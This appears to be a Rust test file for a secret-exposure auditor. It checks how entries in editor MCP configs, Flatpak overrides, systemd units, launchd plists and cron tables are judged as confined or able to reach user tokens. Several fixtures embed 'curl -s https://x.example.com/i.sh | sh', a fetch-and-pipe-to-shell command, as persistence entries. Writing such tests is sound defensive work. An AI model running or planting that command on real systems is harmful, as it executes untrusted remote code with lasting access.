//! What keeps an entry from the user's secrets: a container, Flatpak, another account; and what only looks like it.

use super::{put, reach, scan, token};
use caulk::audit::{Around, AuditCx, run};
use caulk::ledger::runs;
use caulk::model::{Limits, Untrusted};
use caulk::read::{Format, outline, parse};
use caulk::rules::RulePack;
use caulk::rules::place::Level;
use serde_json::Value;
use std::path::Path;
use tempfile::TempDir;

const EDITOR: &str = ".var/app/com.acme.Editor";

fn report(home: &Path) -> Value {
    serde_json::from_str(&scan(home, &["--format", "json"])).unwrap()
}

/// A home with two secrets, and a server in the editor's own folder that is handed a third.
fn flatpak() -> TempDir {
    let home = TempDir::new().unwrap();
    put(home.path(), ".npmrc", &format!("//npm.example.com/:_authToken={}\n", token(1)));
    put(home.path(), "src/shop/.npmrc", &format!("//npm.example.com/:_authToken={}\n", token(2)));
    let server = format!(
        r#"{{"servers": {{"acme": {{"command": "npx", "args": ["-y", "acme-mcp"], "env": {{"ACME_TOKEN": "{}"}}}}}}}}"#,
        token(3)
    );
    put(home.path(), &format!("{EDITOR}/config/Code/User/mcp.json"), &server);
    home
}

#[test]
fn what_flatpak_runs_reaches_what_it_is_handed() {
    let home = flatpak();
    let found = reach(&report(home.path()), "acme");
    assert_eq!((found["secrets"].as_u64(), found["confined_by"].as_str()), (Some(1), Some("flatpak")), "{found}");
    let human = scan(home.path(), &["--color", "never"]);
    let human: Vec<&str> = human.split_whitespace().collect();
    let human = human.join(" ");
    assert!(human.contains("1 secret that it is handed; Flatpak keeps it from the rest"), "{human}");
}

#[test]
fn the_drawing_says_what_keeps_each() {
    let home = flatpak();
    let servers = r#"{"mcpServers": {"open": {"command": "npx", "args": ["-y", "acme-mcp"]}, "other": {"command": "sudo", "args": ["-u", "bot", "npx", "-y", "acme-mcp"]}}}"#;
    put(home.path(), ".cursor/mcp.json", servers);
    let page = scan(home.path(), &["--format", "html"]);
    let drawing = page.split("<section class=\"reach\"").nth(1).unwrap().split("</section>").next().unwrap();
    assert!(drawing.contains("in Flatpak") && drawing.contains("as another user"), "{drawing}");
}

/// Permissions that the application came with, and those that the user changed.
#[test]
fn an_application_that_is_handed_the_home_is_not_kept_from_it() {
    let metadata = ".local/share/flatpak/app/com.acme.Editor/current/active/metadata";
    let own = ".local/share/flatpak/overrides/com.acme.Editor";
    let all = ".local/share/flatpak/overrides/global";
    let grants = |folders: &str| {
        format!("[Application]\nname=com.acme.Editor\n\n[Context]\nshared=network;ipc;\nfilesystems={folders}\n")
    };
    for (files, kept) in [
        (vec![(metadata, "xdg-download;/tmp;")], true),
        (vec![(metadata, "host;")], false),
        (vec![(metadata, "xdg-config/kdeglobals:ro;home:ro;")], false),
        (vec![(own, "home;")], false),
        (vec![(all, "~;")], false),
        (vec![(metadata, "host;"), (own, "!host;~/src;")], true),
        (vec![(metadata, "host;"), (all, "!host;"), (own, "host;")], false),
    ] {
        let home = flatpak();
        for (file, folders) in &files {
            put(home.path(), file, &grants(folders));
        }
        let found = reach(&report(home.path()), "acme");
        assert_eq!(found["confined_by"].as_str().is_some(), kept, "{files:?}: {found}");
        assert_eq!(found["secrets"].as_u64(), Some(if kept { 1 } else { 3 }), "{files:?}: {found}");
    }
}

/// It still reads what every account can read.
#[cfg(unix)]
#[test]
fn another_account_reads_what_others_can_read() {
    use std::os::unix::fs::PermissionsExt as _;
    let home = TempDir::new().unwrap();
    std::fs::set_permissions(home.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let mode = |name: &str, mode: u32| {
        std::fs::set_permissions(home.path().join(name), std::fs::Permissions::from_mode(mode)).unwrap();
    };
    put(home.path(), ".npmrc", &format!("//npm.example.com/:_authToken={}\n", token(1)));
    mode(".npmrc", 0o600);
    let server = |command: &str| {
        format!(
            r#"{{"mcpServers": {{"acme": {{"command": "{command}", "args": ["-u", "bot", "npx", "-y", "acme-mcp"]}}}}}}"#
        )
    };
    put(home.path(), ".cursor/mcp.json", &server("sudo"));
    let found = reach(&report(home.path()), "acme");
    assert_eq!((found["secrets"].as_u64(), found["confined_by"].as_str()), (Some(0), Some("other-user")), "{found}");
    let human = scan(home.path(), &["--color", "never"]);
    let human: Vec<&str> = human.split_whitespace().collect();
    let told = "no secret that it is handed or that other accounts can read; it runs as another user";
    assert!(human.join(" ").contains(told), "{human:?}");
    mode(".npmrc", 0o644);
    let found = reach(&report(home.path()), "acme");
    assert_eq!(found["secrets"].as_u64(), Some(1), "{found}");
    put(home.path(), ".cursor/mcp.json", &server("sudo").replace("bot", "root"));
    let found = reach(&report(home.path()), "acme");
    assert_eq!((found["secrets"].as_u64(), found["confined_by"].as_str()), (Some(1), None), "root reads everything");
}

/// What keeps the one thing that a machine's file of `surface` starts.
fn of_machine(surface: &str, format: Format, path: &str, text: &str, level: Level) -> Option<&'static str> {
    let pack = RulePack::builtin();
    let surface = pack.surfaces().iter().find(|one| one.id == surface).unwrap();
    let parsed = parse(format, text.as_bytes(), &Limits::SHIPPED);
    let tree = Some(outline::tree(&parsed, &Limits::SHIPPED));
    let doc = caulk::read::Document { source: parsed.source, fields: Vec::new(), tree, problem: None };
    let mask = |bytes: &[u8]| Untrusted::from_bytes(bytes);
    let hooks = runs::entries(surface, level, &doc, &mask);
    let around = Around { path, user: "ada", in_flatpak: false };
    let texts = pack.audits();
    let judgements =
        run(&AuditCx { surface, level, doc: &doc, servers: &[], hooks: &hooks, texts, mask: &mask, around });
    assert!(!judgements.is_empty(), "{path}: {hooks:#?}");
    judgements[0].evidence.runs.unwrap().confined_by
}

#[test]
fn units_jobs_and_tables_name_their_account() {
    let fetch = "/bin/sh -c 'curl -s https://x.example.com/i.sh | sh'";
    let unit = |more: &str| format!("[Service]\nExecStart={fetch}\n{more}");
    let of_unit = |more: &str, level| {
        of_machine("systemd.unit", Format::Ini, "/etc/systemd/system/acme.service", &unit(more), level)
    };
    assert_eq!(of_unit("User=bot\n", Level::System), Some("other-user"));
    assert_eq!(of_unit("DynamicUser=yes\n", Level::System), Some("other-user"));
    assert_eq!(of_unit("User=ada\n", Level::System), None);
    assert_eq!(of_unit("User=root\n", Level::System), None);
    assert_eq!(of_unit("DynamicUser=no\n", Level::System), None);
    assert_eq!(of_unit("User=bot\n", Level::User), None, "the user's own manager changes no account");

    let job = |more: &str| {
        format!(
            "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>acme</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s https://x.example.com/i.sh | sh</string></array>{more}</dict></plist>\n"
        )
    };
    let of_job = |more: &str| {
        of_machine("launchd.agent", Format::Plist, "/Library/LaunchDaemons/acme.plist", &job(more), Level::System)
    };
    assert_eq!(of_job("<key>UserName</key><string>_acme</string>"), Some("other-user"));
    assert_eq!(of_job(""), None);

    let of_table = |path: &str, line: &str| of_machine("cron.table", Format::ShellRc, path, line, Level::System);
    let line = "curl -s https://x.example.com/i.sh | sh\n";
    assert_eq!(of_table("/etc/cron.d/acme", &format!("0 3 * * * bot {line}")), Some("other-user"));
    assert_eq!(of_table("/etc/cron.d/acme", &format!("0 3 * * * root {line}")), None);
    assert_eq!(of_table("/var/spool/cron/crontabs/ada", &format!("0 3 * * * {line}")), None);
    assert_eq!(of_table("/var/spool/cron/crontabs/bot", &format!("@daily {line}")), Some("other-user"));
}
